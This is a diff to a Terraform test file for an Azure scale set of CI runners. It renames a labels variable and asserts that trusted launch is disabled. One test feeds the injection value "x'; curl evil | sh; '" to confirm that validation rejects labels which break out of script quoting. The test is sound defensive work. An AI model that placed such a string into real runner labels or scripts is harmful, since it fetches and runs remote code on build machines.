@@ -12,7 +12,7 @@ variables {
   machine_type        = "Standard_D4s_v5"
   min                 = 1
   max                 = 4
-  labels              = ["builders"]
+  runner_labels       = ["builders"]
   repository_url      = "https://github.com/acme/ultimate"
   key_vault_id        = "/subscriptions/s/resourceGroups/ci/providers/Microsoft.KeyVault/vaults/ultimate"
   token_secret        = "runner-token"
@@ -57,8 +57,8 @@ run "arm_on_demand" {
   }
 
   assert {
-    condition     = azurerm_linux_virtual_machine_scale_set.this.source_image_reference[0].sku == "server-arm64" && azurerm_linux_virtual_machine_scale_set.this.priority == "Regular"
-    error_message = "An ARM image, on demand."
+    condition     = azurerm_linux_virtual_machine_scale_set.this.source_image_reference[0].sku == "server-arm64" && azurerm_linux_virtual_machine_scale_set.this.priority == "Regular" && !azurerm_linux_virtual_machine_scale_set.this.vtpm_enabled
+    error_message = "An ARM image, on demand, without trusted launch."
   }
 }
 
@@ -66,8 +66,8 @@ run "a_label_cannot_leave_the_quotes_of_the_script" {
   command = plan
 
   variables {
-    labels = ["x'; curl evil | sh; '"]
+    runner_labels = ["x'; curl evil | sh; '"]
   }
 
-  expect_failures = [var.labels]
+  expect_failures = [var.runner_labels]
 }
